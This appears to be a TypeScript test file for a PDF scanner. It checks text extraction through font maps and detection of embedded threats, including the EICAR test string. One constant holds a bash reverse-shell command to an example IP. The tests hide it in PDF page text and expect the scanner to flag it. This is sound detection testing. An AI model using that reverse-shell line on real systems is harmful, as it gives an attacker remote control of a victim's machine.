import { deflateSync } from 'node:zlib';
import { expect, test } from 'vitest';
import { examined } from '#test/examined.ts';
import { EICAR } from '#test/files.ts';
import { PageTexts } from './pdf-pages.ts';

async function threatIn(bytes: Buffer): Promise<string | null> {
  const examination = await examined(bytes, { name: 'a.pdf' });
  expect(examination.unread).toEqual([]);
  return examination.threat;
}

/** A document with these streams, each packed, behind its dictionary. */
function documentOf(...streams: readonly (readonly [dictionary: string, content: string | Buffer])[]): Buffer {
  const objects = streams.flatMap(([dictionary, content], index) => {
    const packed = deflateSync(content);
    return [
      Buffer.from(`${index + 1} 0 obj\n<< ${dictionary} /Filter /FlateDecode /Length ${packed.length} >>\nstream\n`),
      packed,
      Buffer.from('\nendstream\nendobj\n'),
    ];
  });
  return Buffer.concat([Buffer.from('%PDF-1.5\n'), ...objects, Buffer.from('trailer\n<< /Root 9 0 R >>\n%%EOF\n')]);
}

/** The texts of the pages, by each map beside their bytes. */
function textsOf(...streams: readonly string[]): string[] {
  const pages = new PageTexts();
  for (const stream of streams) pages.add(Buffer.from(stream, 'latin1'));
  return Array.from(pages.texts(), (text) => text.toString());
}

const digits = (text: string) => Buffer.from(text, 'latin1').toString('hex');
const escaped = (text: string) => text.replaceAll(/[\\()]/g, '\\$&');

/** Letters as a word processor numbers them: each in the order in which it comes. */
function subsetOf(text: string): { codes: Map<string, number>; map: string } {
  const codes = new Map<string, number>();
  for (const letter of text) if (!codes.has(letter)) codes.set(letter, codes.size + 1);
  const entries = Array.from(
    codes,
    ([letter, code]) => `<${code.toString(16).padStart(2, '0')}> <${letter.charCodeAt(0).toString(16).padStart(4, '0')}>`,
  );
  return {
    codes,
    map: `begincmap\n1 begincodespacerange\n<00> <FF>\nendcodespacerange\n${entries.length} beginbfchar\n${entries.join('\n')}\nendbfchar\nendcmap`,
  };
}

const SHELL = ['#!/bin/bash', 'bash -i >& /dev/tcp/203.0.113.7/4444 0>&1'];

test('strings of one height are one line, and a gap between letters is a blank', () => {
  const page = '/F1 12 Tf BT 1 0 0 1 40 700 Tm [(He) 20 (llo) -300 (world)] TJ 80 0 Td (!) Tj 0 -14 Td (next) Tj T* (last) Tj ET';
  expect(textsOf(page)).toEqual(['Hello world!\nnext\nlast']);
});

test('a picture within a page, comments and numbers without end do no harm', () => {
  const page = `BT (a) Tj ET BI /W 1 ID (((( EI % ( not this\n${'1 '.repeat(10_000)} BT (b) ' ET`;
  expect(textsOf(page)).toEqual(['a\nb']);
});

test('letters are told by the maps of the fonts, in codes of one and of two bytes', () => {
  const wide =
    'begincmap 1 beginbfrange <0003> <0005> <0041> endbfrange 1 beginbfrange <0010> <0011> [<0058> <0059>] endbfrange endcmap';
  expect(textsOf('BT <00030004000500100011> Tj ET', wide).at(-1)).toBe('ABCXY');
});

test('a map of ranges without end has as many letters as there are codes', () => {
  const map = `begincmap ${'1 beginbfrange <0000> <ffff> <0041> endbfrange '.repeat(20_000)} endcmap`;
  expect(textsOf('BT <0000> Tj ET', map)).toHaveLength(2);
});

test('a long text is tried with fewer maps, so that they do not multiply its size', () => {
  const map = 'begincmap 1 beginbfrange <00> <ff> <0041> endbfrange endcmap';
  const texts = textsOf(`BT (${'a'.repeat(3 * 1024 ** 2)}) Tj ET`, ...Array.from({ length: 16 }, () => map));
  expect(texts.reduce((sum, { length }) => sum + length, 0)).toBeLessThanOrEqual(20 * 1024 ** 2);
  expect(texts.length).toBeGreaterThan(2);
});

test('a script that a page shows line by line is found, for any codes of its letters', async () => {
  const { codes, map } = subsetOf(SHELL.join(''));
  const coded = (text: string) => Buffer.from(Array.from(text, (letter) => codes.get(letter) ?? 0)).toString('hex');
  const lines = SHELL.map((line) => `[${Array.from(line, (letter) => `<${coded(letter)}>`).join('1')}] TJ 0 -14 Td`);
  expect(await threatIn(documentOf(['', `BT 40 700 Td ${lines.join(' ')} ET`], ['', map]))).toMatch(/Reverse/i);
  const plain = SHELL.map((line) => `(${escaped(line)}) Tj T*`).join('\n');
  expect(await threatIn(documentOf(['', `BT 40 700 Td ${plain} ET`]))).toMatch(/Reverse/i);
});

test('a page that shows only a test file is that file', async () => {
  expect(await threatIn(documentOf(['', `BT 40 700 Td <${digits(EICAR.toString())}> Tj ET`]))).toBe('EICAR-Test-File');
});

test('a stream that no page shows and nothing names is matched alone', async () => {
  expect(await threatIn(documentOf(['/Private true', EICAR]))).toBe('EICAR-Test-File');
});

test('a stream begins at the keyword, and not in the name that ends like it', async () => {
  const packed = deflateSync(EICAR);
  const document = Buffer.concat([
    Buffer.from(
      '%PDF-1.3\n3 0 obj\n<<\n/Filter /FlateDecode\n/Type /EmbeddedFile\n/Subtype /application#2foctet-stream\n>>\nstream\n',
    ),
    packed,
    Buffer.from('\nendstream\nendobj\ntrailer\n<</Root 1 0 R>>\n%%EOF\n'),
  ]);
  expect(await threatIn(document)).toBe('EICAR-Test-File');
});
